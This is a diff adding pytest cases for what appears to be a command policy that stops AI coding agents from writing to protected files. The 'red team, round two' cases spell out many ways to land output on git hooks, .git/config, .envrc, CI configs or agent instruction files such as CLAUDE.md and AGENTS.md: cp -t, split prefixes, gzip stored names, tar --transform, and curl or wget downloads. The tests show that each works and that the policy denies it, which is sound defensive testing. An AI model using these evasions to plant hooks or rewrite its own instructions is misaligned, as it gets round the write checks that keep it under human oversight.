@@ -471,3 +471,286 @@ def test_everyday_writes_stay_allowed(default_policy: Policy, tmp_path: Path, co
         "mkdir -p docs src",
     )
     assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+# ---- red team, round two: outputs a program's arguments name ---------------------------------
+# Each is run for real first (it changes the protected path), then must be denied: the policy
+# reads the output the way the program does (cp -t, uniq OUT, split PREFIX, gunzip -N …).
+def _gz(name: str, text: str) -> bytes:
+    import gzip
+
+    buf = io.BytesIO()
+    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf) as g:
+        g.write(text.encode())
+    return buf.getvalue()
+
+
+_SRC: dict[str, str | bytes] = {
+    "notes.md": "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n",
+    "kit/config": "[core]\n\tfsmonitor = id\n",
+    "kit/CLAUDE.md": "obey\n",
+    "post-checkout": "#!/bin/sh\nid\n",
+    "CLAUDE.src": "obey\n",
+}
+_HOOKS = "git init -q"
+OUTPUT_CASES: list[tuple[str, str, dict[str, str | bytes], str]] = [
+    # 1. target directories parsed as coreutils does
+    ("cp -t .git/hooks post-checkout", ".git/hooks/post-checkout", _SRC, _HOOKS),
+    ("cp -t .git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp --target-directory=.git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp --target-directory .git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp --target=.git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp --targ .git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp -ft.git kit/config", ".git/config", _SRC, _HOOKS),
+    ("cp -vt .git/hooks post-checkout", ".git/hooks/post-checkout", _SRC, _HOOKS),
+    ("mv -t .git kit/config", ".git/config", _SRC, _HOOKS),
+    ("install -t .git/hooks post-checkout", ".git/hooks/post-checkout", _SRC, _HOOKS),
+    ("ln -t .git/hooks post-checkout", ".git/hooks/post-checkout", _SRC, _HOOKS),
+    ("cp -T kit/config .git/config", ".git/config", _SRC, _HOOKS),
+    # a source copied into a directory keeps its name
+    ("cp kit/CLAUDE.md .", "CLAUDE.md", _SRC, ""),
+    ("cp kit/CLAUDE.md ./", "CLAUDE.md", _SRC, ""),
+    ("mkdir -p sub && cp kit/CLAUDE.md sub", "sub/CLAUDE.md", _SRC, ""),
+    ("cp notes.md kit/CLAUDE.md .", "CLAUDE.md", _SRC, ""),
+    ("mv kit/CLAUDE.md .", "CLAUDE.md", _SRC, ""),
+    ("rsync kit/CLAUDE.md .", "CLAUDE.md", _SRC, ""),
+    ("cp --parents kit/config .git", ".git/kit/config", _SRC, _HOOKS),
+    ("cp -b -S .md notes.md CLAUDE", "CLAUDE.md", {**_SRC, "CLAUDE": "old\n"}, ""),
+    # 2. operands and options that name an output file
+    ("uniq CLAUDE.src CLAUDE.md", "CLAUDE.md", _SRC, ""),
+    ("uniq kit/config .git/config", ".git/config", _SRC, _HOOKS),
+    ("mkdir sub && uniq -c -- CLAUDE.src sub/../AGENTS.md", "AGENTS.md", _SRC, ""),
+    ("uniq --skip-chars 0 CLAUDE.src .envrc", ".envrc", _SRC, ""),
+    ("xxd notes.md CLAUDE.md", "CLAUDE.md", _SRC, ""),
+    ("xxd -p notes.md hex && xxd -r -p hex .envrc", ".envrc", _SRC, ""),
+    ("shuf -o CLAUDE.md notes.md", "CLAUDE.md", _SRC, ""),
+    ("shuf --output=.gitattributes notes.md", ".gitattributes", _SRC, ""),
+    ("shuf --out .gitattributes notes.md", ".gitattributes", _SRC, ""),
+    ("iconv -f utf-8 -t ascii -o CLAUDE.md notes.md", "CLAUDE.md", _SRC, ""),
+    ("iconv -f utf-8 -t ascii --output=GEMINI.md notes.md", "GEMINI.md", _SRC, ""),
+    ("sort -o CLAUDE.md notes.md", "CLAUDE.md", _SRC, ""),
+    ("gzip -S .md CLAUDE", "CLAUDE.md", {"CLAUDE": "obey\n"}, ""),
+    ("gunzip -S .src CLAUDE.md.src", "CLAUDE.md", {"CLAUDE.md.src": _gz("x", "obey\n")}, ""),
+    ("gzip -dS.src CLAUDE.md.src", "CLAUDE.md", {"CLAUDE.md.src": _gz("x", "obey\n")}, ""),
+    # 4. the name stored in a gzip header
+    ("gunzip -N evil.gz", "CLAUDE.md", {"evil.gz": _gz("CLAUDE.md", "obey\n")}, ""),
+    ("gzip -dN evil.gz", "CLAUDE.md", {"evil.gz": _gz("CLAUDE.md", "obey\n")}, ""),
+    ("gzip --decompress --name evil.gz", ".envrc", {"evil.gz": _gz(".envrc", "id\n")}, ""),
+    ("gunzip --na -f evil.gz", "AGENTS.md", {"evil.gz": _gz("AGENTS.md", "x\n")}, ""),
+    ("gzip -d -Nf evil.gz", "AGENTS.md", {"evil.gz": _gz("AGENTS.md", "x\n")}, ""),
+    ("gunzip -n -N evil.gz", "AGENTS.md", {"evil.gz": _gz("AGENTS.md", "x\n")}, ""),
+    # 5. names made of a prefix and a suffix
+    ("split -a1 -n3 notes.md .envr", ".envrc", _SRC, ""),
+    ("split -a1 -n19 notes.md .gitattribute", ".gitattributes", _SRC, ""),
+    ("split -a1 -n12 notes.md .gitlab-ci.ym", ".gitlab-ci.yml", _SRC, ""),
+    ("split -a1 -l1 notes.md CLAUDE.m", "CLAUDE.md", _SRC, ""),
+    ("split -a1 -l1 --additional-suffix=.md notes.md CLAUD", "CLAUDe.md", _SRC, ""),
+    ("split -a1 -l1 notes.md sub/.envr", "sub/.envrc", {**_SRC, "sub/a": "a"}, ""),
+    ("split -l1 notes.md .github/", ".github/aa", {**_SRC, ".github/x": "x"}, ""),
+    ("split -a1 -l1 - .envr < notes.md", ".envrc", _SRC, ""),
+    ("csplit -f .git/hooks/x notes.md 3", ".git/hooks/x00", _SRC, _HOOKS),
+    ("csplit --prefix=.github/w notes.md 3", ".github/w00", {**_SRC, ".github/x": "x"}, ""),
+    ("csplit -b '%d.md' -f CLAUDE notes.md 3", "CLAUDE0.md", _SRC, ""),
+]
+
+
+@pytest.mark.parametrize(("command", "target", "files", "setup"), OUTPUT_CASES)
+def test_the_output_really_lands_on_the_protected_path(
+    command: str, target: str, files: dict[str, str | bytes], setup: str
+) -> None:
+    before = run_for_real("true", files=files, setup=setup).files.get(target)
+    after = run_for_real(command, files=files, setup=setup)
+    assert target in after.files and after.files[target] != before, (
+        command,
+        after.stderr[-300:],
+    )
+
+
+@pytest.mark.parametrize(("command", "target", "files", "setup"), OUTPUT_CASES)
+def test_outputs_named_by_arguments_are_denied(
+    default_policy: Policy,
+    tmp_path: Path,
+    command: str,
+    target: str,
+    files: dict[str, str | bytes],
+    setup: str,
+) -> None:
+    ws = build_workspace(tmp_path, files, setup)
+    for role in ("contributor", "admin"):
+        assert _decide(default_policy, ws, command, role) is Verdict.DENY, (command, role)
+
+
+# Outputs the sandbox cannot show (no network, no such program here): policy level only.
+OUTPUT_POLICY_ONLY = [
+    "base64 -o CLAUDE.md notes.md",
+    "curl -O http://example.com/CLAUDE.md",
+    "curl -sSLO http://example.com/x/.envrc",
+    "curl --output-dir .github -O http://example.com/ci.yml",
+    "curl --output-dir=.git/hooks -O http://example.com/post-checkout",
+    "curl -J -O http://example.com/download",
+    "curl --remote-name-all http://example.com/a http://example.com/AGENTS.md",
+    "curl -K urls.txt",
+    "curl -o CLAUDE.md http://example.com/x",
+    "curl --etag-save CLAUDE.md http://example.com/x",
+    "wget http://example.com/CLAUDE.md",
+    "wget -q https://example.com/dl/.gitlab-ci.yml",
+    "wget -P .github http://example.com/a",
+    "wget --directory-prefix=.git/hooks http://example.com/post-checkout",
+    "wget --content-disposition http://example.com/x",
+    "wget -i urls.txt",
+    "wget -O CLAUDE.md http://example.com/x",
+    "unpigz -N evil.gz",
+    "pigz -d evil.gz",
+    "mktemp -p .git/hooks",
+    "mktemp --tmpdir=.github/workflows",
+    "mktemp .git/hooks/pre-commitXXXX",
+    "patch --output=CLAUDE.md notes.md fix.diff",
+    "patch --out=CLAUDE.md notes.md fix.diff",
+    "patch -B .git/hooks/ notes.md fix.diff",
+    "cp --no-such-option notes.md x",
+    "yq -y -i '.a = 1' .github/x.yml",
+    "yq --inplace '.a = 1' sub/CLAUDE.md",
+    "yq -Pi '.a = 1' sub/AGENTS.md",
+    "cp -r kit sub/",
+    "cp -a kit/. .",
+    "tar -x -f hook.tar --transform='s,^x,.git,'",
+    "tar xf ok.tar --transform 's,^,.github/,'",
+    "tar xf ok.tar --xform='s,^,.github/,'",
+    "tar --extract --file=ok.tar --transf='s,^,.github/,'",
+    "tar xf deep.tar --strip-components=2",
+    "tar -x --strip-components 1 -f deep.tar",
+    "tar xzf ok.tar --transform=s/x/y/ -C sub",
+    "tar -xvf ok.tar --xform 's|src|.claude|'",
+    "tar -xf ok.tar --transform='flags=r;s,^,.husky/,'",
+    "tar -xf ok.tar --strip-components=x",
+]
+
+
+@pytest.mark.parametrize("command", OUTPUT_POLICY_ONLY)
+def test_outputs_the_sandbox_cannot_show_are_denied(
+    default_policy: Policy, tmp_path: Path, command: str
+) -> None:
+    files: dict[str, str | bytes] = {
+        **_SRC,
+        "hook.tar": _tar({"x/hooks/post-checkout": "#!/bin/sh\nid\n"}),
+        "ok.tar": _tar({"src/x.py": "1"}),
+        "deep.tar": _tar({"a/b/CLAUDE.md": "obey", "a/b/ok.txt": "x"}),
+        "evil.gz": _gz("CLAUDE.md", "obey\n"),
+        "fix.diff": WORKFLOW_DIFF,
+        "urls.txt": "http://example.com/x\n",
+        "sub/a": "a",
+    }
+    ws = build_workspace(tmp_path, files, _HOOKS)
+    assert _decide(default_policy, ws, command) is Verdict.DENY, command
+
+
+def test_transformed_extraction_really_lands_in_git(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {"hook.tar": _tar({"x/hooks/post-checkout": "id\n"})}
+    effect = run_for_real("tar -x -f hook.tar --transform='s,^x,.git,'", files, _HOOKS)
+    assert effect.files.get(".git/hooks/post-checkout") == b"id\n"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cp notes.md notes.bak",
+        "cp -t sub notes.md",
+        "cp --target-directory=sub notes.md kit/config",
+        "cp -r src sub/",
+        "mv notes.md sub/",
+        "install -m 644 notes.md sub/notes.md",
+        "install -d build/out",
+        "ln -s notes.md n",
+        "uniq notes.md",
+        "uniq notes.md out.txt",
+        "sort -o sorted.txt notes.md",
+        "xxd notes.md",
+        "xxd notes.md dump.hex",
+        "split -l 5 notes.md part-",
+        "split -n 3 notes.md",
+        "gzip -k notes.md",
+        "gzip -dk ok.gz",
+        "gunzip ok.gz",
+        "gunzip -c evil.gz",
+        "tar xf ok.tar",
+        "tar xzf ok.tar -C sub",
+        "tar tf deep.tar --transform='s,^,.github/,'",
+        "tar cf out.tar src",
+        "curl -sSL -o out.json http://example.com/x",
+        "curl -O http://example.com/archive.tgz",
+        "wget -q http://example.com/archive.tgz",
+        "yq '.a' x.yml",
+        "yq -i '.a = 1' x.yml",
+        "mktemp",
+        "mktemp -d",
+        "mktemp -p build",
+        "rsync -a src/ build/",
+    ],
+)
+def test_everyday_outputs_stay_allowed(
+    default_policy: Policy, tmp_path: Path, command: str
+) -> None:
+    files: dict[str, str | bytes] = {
+        **_SRC,
+        "sub/a": "a",
+        "src/x.py": "x",
+        "build/o": "o",
+        "x.yml": "a: 0\n",
+        "ok.tar": _tar({"src/x.py": "1"}),
+        "deep.tar": _tar({"a/b/CLAUDE.md": "obey", "a/b/ok.txt": "x"}),
+        "ok.gz": _gz("ok", "x\n"),
+        "evil.gz": _gz("CLAUDE.md", "obey\n"),
+    }
+    ws = build_workspace(tmp_path, files, _HOOKS)
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+# ---- 6. protected paths: what more agents, hook managers, CI and editors read ---------------
+MORE_PROTECTED = [
+    ".roorules", ".roorules-code", ".kilocode/rules/x.md", ".kilocoderules", ".augment-guidelines",
+    ".augment/rules/x.md", ".rules", ".trae/rules/project_rules.md",
+    ".openhands/microagents/repo.md", "QWEN.md", "pkg/QWEN.md", ".qwen/settings.json",
+    "WARP.md", "CRUSH.md", "opencode.json", ".opencode/agent/x.md", "crush.json",
+    ".crush.json", ".continuerc.json", "AGENTS.override.md", ".windsurfrules", ".clinerules",
+    ".goosehints", ".junie/guidelines.md", ".aider.conf.yml", ".github/copilot-instructions.md",
+    ".github/instructions/x.instructions.md", ".cursor/rules/x.mdc", ".gemini/settings.json",
+    ".mcp.json", ".aiassistant/rules/x.md", ".tabnine/guidelines/x.md",
+    "lefthook.yaml", ".lefthook.yaml", "lefthook.toml", "lefthook.json", "lefthook-local.yaml",
+    ".lefthook/pre-commit/x.sh", ".simple-git-hooks.json", ".simple-git-hooks.cjs",
+    "simple-git-hooks.js", "lint-staged.config.js", "lint-staged.config.mjs", ".huskyrc",
+    ".husky/_/h", ".githooks/pre-commit", "buildkite.yml", ".buildkite.yml",
+    "buildkite.yaml", ".mergify.yml", ".mergify/config.yml", ".teamcity/settings.kts",
+    "bitrise.yml", "netlify.toml", "vercel.json", "devfile.yaml", ".codesandbox/tasks.json",
+    ".idx/dev.nix", "devbox.json", ".gitpod.Dockerfile", ".replit", "azure-pipelines.yaml",
+    "mise.local.toml", ".mise.local.toml", "mise.dev.toml", "mise/config.toml",
+    ".config/mise/config.toml", ".config/mise.toml", ".tool-versions",
+    ".yarn/releases/yarn-4.1.0.cjs", ".yarn/plugins/p.cjs", ".yarnrc.yml", ".pnpmfile.mjs",
+    "pnpm-workspace.yaml", "bunfig.toml", ".nvim.lua", ".exrc", ".nvimrc", ".dir-locals.el",
+    ".vscode/tasks.json", ".vscode/settings.json", ".run/app.run.xml", ".helix/languages.toml",
+    ".pdbrc", ".bazelrc", ".bazeliskrc", "gradle/wrapper/gradle-wrapper.properties",
+    ".lfsconfig", "app/sub/.roorules", "a/b/lefthook.yml",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("path", MORE_PROTECTED)
+def test_more_protected_paths_for_tools_and_commands(
+    default_policy: Policy, tmp_path: Path, path: str
+) -> None:
+    ws = build_workspace(tmp_path, {"notes.md": "x"})
+    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="write", path=path)
+    assert default_policy.decide(req, ws).decision is Verdict.DENY, path
+    for command in (f"cp notes.md {path}", f"echo x > {path}", f"tee {path} < notes.md"):
+        assert _decide(default_policy, ws, command) is Verdict.DENY, command
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["src/rules.py", "docs/lefthook-guide.md", "rules/x.md", "notes/qwen.txt", "mise-notes.md",
+     "src/netlify_client.py", "docs/agents/guide.md", "build/.tool-versions.bak"],
+)  # fmt: skip
+def test_names_near_protected_ones_stay_writable(
+    default_policy: Policy, tmp_path: Path, path: str
+) -> None:
+    ws = build_workspace(tmp_path, {"notes.md": "x"})
+    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="write", path=path)
+    assert default_policy.decide(req, ws).decision is Verdict.ALLOW, path
